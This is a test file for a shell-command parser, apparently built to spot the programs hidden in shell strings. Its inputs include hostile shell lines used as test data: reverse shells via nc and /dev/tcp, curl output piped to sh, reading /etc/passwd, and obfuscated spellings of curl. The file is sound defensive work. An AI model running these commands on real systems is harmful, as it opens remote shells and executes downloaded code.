import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { test } from 'node:test';

const { parseShellCommands, shellScriptIndex } = createRequire(import.meta.url)('../../dist/lib.cjs');

const names = (s) => parseShellCommands(s).map((c) => (c.dynamic ? `~${c.name}` : c.name));

test('finds every simple command a shell string runs', () => {
  const table = [
    ['touch /tmp/x', ['touch']],
    ['a && b || c; d & e | f', ['a', 'b', 'c', 'd', 'e', 'f']],
    ['a\nb\n\nc', ['a', 'b', 'c']],
    ['X=1 Y=2 curl -s http://x | sh', ['curl', 'sh']],
    ['cat < /etc/passwd > /tmp/o 2>&1', ['cat']],
    ['(cd /tmp; ./x)', ['./x']], // cd is the shell's own
    ['{ id; uname; }', ['id', 'uname']],
    ['if true; then curl a; elif x; then y; else z; fi', ['true', 'curl', 'x', 'y', 'z']],
    ['for i in 1 2; do ping $i; done', ['ping']],
    ['while read l; do echo $l; done < f', ['echo']],
    ['case $x in a) id;; b|c) uname;; esac', ['id', 'uname']],
    ['f() { ls; }; f', ['ls', 'f']],
    ['x#not-a-comment # comment; curl', ['x#not-a-comment']],
  ];
  for (const [script, want] of table) assert.deepEqual(names(script), want, script);
});

test('unquotes and unescapes command names the way the shell does', () => {
  assert.deepEqual(names("'cu'rl x"), ['curl']);
  assert.deepEqual(names('c\\url x'), ['curl']);
  assert.deepEqual(names('"cu"r"l" x'), ['curl']);
  assert.deepEqual(names("$'\\x63\\x75rl' x"), ['curl']);
  assert.deepEqual(names("$'\\143url' x"), ['curl']);
});

test("$'…' escapes decode as bash decodes them, and a malformed one never throws", () => {
  const argvOf = (s) => parseShellCommands(s).map((c) => c.argv);
  // An escape without its digits stays as written (bash: echo $'\xZZ' prints \xZZ).
  assert.deepEqual(argvOf("echo $'\\xZZ'"), [['echo', '\\xZZ']]);
  assert.deepEqual(argvOf("echo $'\\u'"), [['echo', '\\u']]);
  assert.deepEqual(argvOf("echo $'\\U0001F600'"), [['echo', '\u{1F600}']]);
  // Past the last code point: kept as written, not a RangeError.
  assert.deepEqual(argvOf("echo $'\\UFFFFFFFF'"), [['echo', '\\UFFFFFFFF']]);
  assert.deepEqual(argvOf("echo $'\\ca\\E'"), [['echo', '\x01\x1b']]);
  assert.deepEqual(names("$'\\u0063url' x"), ['curl']);
});

test('parses command substitution, backticks, process substitution and arithmetic recursively', () => {
  assert.deepEqual(names('echo $(whoami)'), ['echo', 'whoami']);
  assert.deepEqual(names('echo `id`'), ['echo', 'id']);
  assert.deepEqual(names('echo "$(curl x)"'), ['echo', 'curl']);
  assert.deepEqual(names('echo "a `uname` b"'), ['echo', 'uname']);
  assert.deepEqual(names('diff <(ls a) >(wc)'), ['diff', 'ls', 'wc']);
  assert.deepEqual(names('echo $((1+$(id -u)))'), ['echo', 'id']);
  assert.deepEqual(names('echo $(echo $(nc -l 1))'), ['echo', 'echo', 'nc']);
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion, not a template
  assert.deepEqual(names('echo ${X:-$(wget y)}'), ['echo', 'wget']);
});

test('unwraps wrappers, eval and nested shells', () => {
  assert.deepEqual(names('env -i A=1 wget y'), ['env', 'wget']);
  assert.deepEqual(names('timeout 5 nc -l 4444'), ['timeout', 'nc']);
  assert.deepEqual(names('nohup xargs -n1 curl'), ['nohup', 'xargs', 'curl']);
  assert.deepEqual(names('busybox wget x'), ['busybox', 'wget']);
  assert.deepEqual(names('eval "curl a; id"'), ['eval', 'curl', 'id']);
  assert.deepEqual(names('bash -c "nc -e /bin/sh 127.0.0.1 80"'), ['bash', 'nc']);
  assert.deepEqual(names('sh -ec \'sh -c "id"\''), ['sh', 'sh', 'id']);
  assert.deepEqual(names('sudo -u root python3 -c 1'), ['sudo', 'python3']);
});

test('here-documents: the body is data, the rest of the line is code', () => {
  assert.deepEqual(names('cat <<EOF | sh\ncurl evil\nEOF\necho done'), ['cat', 'sh', 'echo']);
});

test('names built from expansions are marked dynamic, never static', () => {
  assert.deepEqual(names('$X arg'), ['~$X']);
  assert.deepEqual(names('{cu,rl} x'), ['~{cu,rl}']);
  assert.deepEqual(names('/bin/c?rl x'), ['~/bin/c?rl']);
  assert.deepEqual(names('$(echo curl) x'), ['~$(echo curl)', 'echo']);
});

test("exec, command and builtin are the shell's own: only what they wrap is a command", () => {
  assert.deepEqual(names('exec 3<>/dev/tcp/10.0.0.1/4444; sh <&3'), ['sh']);
  assert.deepEqual(names('exec curl x'), ['curl']);
  assert.deepEqual(names('command -v curl; builtin echo hi'), ['echo']);
  // Builtins that are no program at all are not commands; what they expand still is.
  assert.deepEqual(names('cd /tmp && read -r x <&3; export A=$(id)'), ['id']);
  assert.deepEqual(names('. ./evil.sh'), ['.']);
});

test('finds the -c script in a shell argv', () => {
  assert.equal(shellScriptIndex(['sh', '-c', 'id']), 2);
  assert.equal(shellScriptIndex(['bash', '-lc', 'id']), 2);
  assert.equal(shellScriptIndex(['bash', '-e', '-c', 'id', 'arg0']), 3);
  assert.equal(shellScriptIndex(['bash', '-o', 'pipefail', '-c', 'id']), 4);
  assert.equal(shellScriptIndex(['sh', 'script.sh']), -1);
  assert.equal(shellScriptIndex(['sh']), -1);
});

test('an exec argv runs what its wrappers wrap', () => {
  const { commandsOfArgv } = createRequire(import.meta.url)('../../dist/lib.cjs');
  const n = (argv) => commandsOfArgv(argv).map((c) => c.name);
  assert.deepEqual(n(['/usr/bin/timeout', '5', 'sh', '-c', 'curl x; id']), [
    '/usr/bin/timeout',
    'sh',
    'curl',
    'id',
  ]);
  assert.deepEqual(n(['/usr/bin/env', '-i', 'A=1', 'wget', 'y']), ['/usr/bin/env', 'wget']);
  assert.deepEqual(n(['/usr/bin/git', 'status']), ['/usr/bin/git']);
  // exec argv words are literal: no expansion, so `$(id)` is an argument, not a command
  assert.deepEqual(n(['/usr/bin/echo', '$(id)']), ['/usr/bin/echo']);
});
